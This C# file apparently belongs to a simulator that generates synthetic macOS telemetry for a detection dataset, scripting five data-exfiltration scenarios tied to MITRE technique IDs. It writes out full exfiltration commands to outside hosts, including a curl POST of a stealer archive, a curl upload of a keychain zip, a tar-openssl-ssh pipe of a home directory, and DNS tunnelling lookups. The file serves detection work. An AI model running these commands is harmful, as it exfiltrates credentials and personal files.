using Det0131.Datasets.Simulation.Formats;
using Det0131.Datasets.Simulation.Machines;

namespace Det0131.Datasets.Simulation.Acts;

/// <summary>Acts on Macs (AN0369).</summary>
internal static class MacActs
{
    public static IEnumerable<ActScript> Scripts() =>
    [
        new(new Act("mac-amos", "AN0369", "T1048.003", "osascript, sh, curl multipart POST", "stealer, clear HTTP to an address", "mac-des-02", "45.9.148.31"), "mac-des-02", [0], Amos),
        new(new Act("mac-python-ftp", "AN0369", "T1048.003", "python3 ftplib from a launch agent", "at night", "mac-dev-01", "177.54.150.22"), "mac-dev-01", [3], PythonFtp),
        new(new Act("mac-mdns-loop", "AN0369", "T1048.003", "DNS names through mDNSResponder", "one dscacheutil a name", "mac-des-01", "assetcache.test"), "mac-des-01", [2], MdnsLoop),
        new(new Act("mac-curl-upload", "AN0369", "T1048.003", "curl --upload-file", "HTTP PUT of a keychain archive", "mac-dev-02", "drop.walletsync.test"), "mac-dev-02", [1], CurlUpload),
        new(new Act("mac-tar-ssh", "AN0369", "T1048.001", "tar, openssl, ssh", "own encryption inside SSH, evening", "mac-des-03", "193.201.9.14"), "mac-des-03", [4], TarSsh),
    ];

    private static void Amos(ActStage stage)
    {
        const string Curl = "curl -X POST -H 'user: k3f' -H 'BuildID: 8e2' --max-time 300 --retry 5 --retry-delay 10 -F file=@/tmp/out.zip http://45.9.148.31/joinsystem";
        var mac = stage.Mac;
        var at = stage.At(16.4);
        var installer = mac.Run(at, "/Volumes/CleanApp/CleanApp.app/Contents/MacOS/CleanApp", mac.Launchd, "CleanApp");
        var script = mac.Run(at + 3_000_000, "/usr/bin/osascript", installer, "osascript", "-e", "do shell script");
        var ditto = mac.Run(at + 20_000_000, "/usr/bin/ditto", script, "ditto", "-c", "-k", "--sequesterRsrc", "/tmp/21847", "/tmp/out.zip");
        mac.CreateFile(ditto, at + 20_100_000, "/tmp/out.zip");
        var shell = mac.Run(at + 24_000_000, "/bin/sh", script, "sh", "-c", Curl);
        var curl = mac.Run(at + 24_030_000, "/usr/bin/curl", shell, "curl", "-X", "POST", "-H", "user: k3f", "-H", "BuildID: 8e2", "--max-time", "300", "--retry", "5", "--retry-delay", "10", "-F", "file=@/tmp/out.zip", "http://45.9.148.31/joinsystem");
        mac.Connect(curl, at + 24_100_000, new Peer("45.9.148.31", 80, "http"), Transfer.Upload(22_600_000, 2), new HttpCall("POST", "/joinsystem", "curl/8.7.1", 22_600_000, 12));
    }

    private static void PythonFtp(ActStage stage)
    {
        var mac = stage.Mac;
        var at = stage.At(3.2);
        var python = mac.Run(at, "/opt/homebrew/bin/python3.13", mac.Launchd, "python3", "/Users/hanna.meyer/.local/share/.upd/ftp.py");
        mac.Connect(python, at + 300_000, new Peer("177.54.150.22", 21, "ftp"), new Transfer(420, 1_300, 60));
        for (var i = 0; i < 3; i++)
        {
            mac.Connect(python, at + 900_000 + (i * 18_000_000), new Peer("177.54.150.22", 50_100 + (i * 7), "ftp-data"), new Transfer(stage.Random.Between(19_000_000, 24_000_000), 0, 16));
        }
    }

    private static void MdnsLoop(ActStage stage)
    {
        var mac = stage.Mac;
        var at = stage.At(13.6);
        var shell = mac.Run(at, "/bin/zsh", mac.Launchd, "/bin/zsh", "/Users/nina.vogel/Library/.cache/a.sh");
        var time = at + 200_000;
        foreach (var name in stage.TunnelNames(220, TunnelAlphabet.Base32, 52, 52, "q.assetcache.test"))
        {
            var program = mac.Run(time, "/usr/bin/dscacheutil", shell, "dscacheutil", "-q", "host", "-a", "name", name);
            mac.Tunnel(program, time + 20_000, new DnsExchange(name, "A", null));
            time += 700_000 + stage.Random.Between(0, 300_000);
        }
    }

    private static void CurlUpload(ActStage stage)
    {
        var mac = stage.Mac;
        var at = stage.At(20.8);
        var shell = mac.Run(at, "/bin/bash", mac.Launchd, "/bin/bash", "/Users/Shared/.m/uploadminer.sh");
        var curl = mac.Run(at + 1_000_000, "/usr/bin/curl", shell, "curl", "--upload-file", "/Users/liam.okafor/Documents/interestingkeychain.zip", "http://drop.walletsync.test:8000");
        mac.ResolveAndConnect(curl, at + 1_200_000, new Peer("113.161.70.5", 8000, "http", "drop.walletsync.test"), Transfer.Upload(8_300_000, 2), new HttpCall("PUT", "/interestingkeychain.zip", "curl/8.7.1", 8_300_000, 0));
    }

    private static void TarSsh(ActStage stage)
    {
        var mac = stage.Mac;
        var at = stage.At(20.3);
        var shell = mac.Run(at, "/bin/sh", mac.Resident("/bin/zsh"), "sh", "-c", "tar -zc /Users/ines.costa | openssl des3 -pass pass:x | ssh d@193.201.9.14 'cat > u.enc'");
        mac.Run(at + 20_000, "/usr/bin/tar", shell, "tar", "-zc", "/Users/ines.costa");
        mac.Run(at + 21_000, "/usr/bin/openssl", shell, "openssl", "des3", "-pass", "pass:x");
        var ssh = mac.Run(at + 22_000, "/usr/bin/ssh", shell, "ssh", "d@193.201.9.14", "cat > u.enc");
        mac.Connect(ssh, at + 90_000, new Peer("193.201.9.14", 22, "ssh"), Transfer.Upload(1_430_000_000, 4));
    }
}
